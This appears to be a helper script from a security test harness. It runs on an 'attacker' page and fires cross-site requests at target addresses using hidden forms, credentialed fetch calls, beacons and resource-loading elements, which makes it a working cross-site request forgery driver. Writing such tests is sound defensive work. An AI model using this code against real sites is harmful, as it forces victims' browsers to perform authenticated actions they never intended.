// Runs in the pages of the attacker; see attack-page.ts.

async function postAll(all) {
  let sent = 0
  const frames = []
  for (const { address, fields } of all) {
    for (const encoding of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
      const frame = document.createElement('iframe')
      frame.name = `frame-${sent}`
      frame.hidden = true
      document.body.append(frame)
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: address, target: frame.name, enctype: encoding })
      for (const [name, value] of fields) {
        const input = document.createElement('input')
        Object.assign(input, { type: 'hidden', name, value })
        form.append(input)
      }
      document.body.append(form)
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
      HTMLFormElement.prototype.submit.call(form)
      frames.push(Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 2_000))]))
      sent++
      if (frames.length % 24 === 0) await Promise.all(frames.splice(0))
    }
    const body = () => new URLSearchParams(fields)
    const multipart = () => {
      const form = new FormData()
      for (const [name, value] of fields) form.append(name, value)
      return form
    }
    for (const made of [body(), multipart(), String(body())])
      await fetch(address, { method: 'POST', mode: 'no-cors', credentials: 'include', body: made }).catch(() => {})
    await fetch(address, { method: 'POST', credentials: 'include', body: body() }).catch(() => {})
    navigator.sendBeacon(address, body())
    sent += 5
  }
  await Promise.all(frames)
  return sent
}

async function loadAll(all) {
  let sent = 0
  for (const address of all) {
    const made = []
    const add = (name, values) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(values)) element.setAttribute(key, value)
      made.push(element)
    }
    add('img', { src: address })
    add('iframe', { src: address })
    add('link', { rel: 'stylesheet', href: address })
    add('link', { rel: 'prefetch', href: address })
    add('script', { src: address })
    add('object', { data: address })
    const settled = made.map(
      (element) =>
        new Promise((resolve) => {
          element.addEventListener('load', resolve, { once: true })
          element.addEventListener('error', resolve, { once: true })
          setTimeout(resolve, 400)
        }),
    )
    document.body.append(...made)
    const stop = AbortSignal.timeout(400)
    await fetch(address, { mode: 'no-cors', credentials: 'include', signal: stop }).catch(() => {})
    await Promise.all(settled)
    for (const element of made) element.remove()
    sent += made.length + 1
  }
  return sent
}

Object.assign(globalThis, { postAll, loadAll })
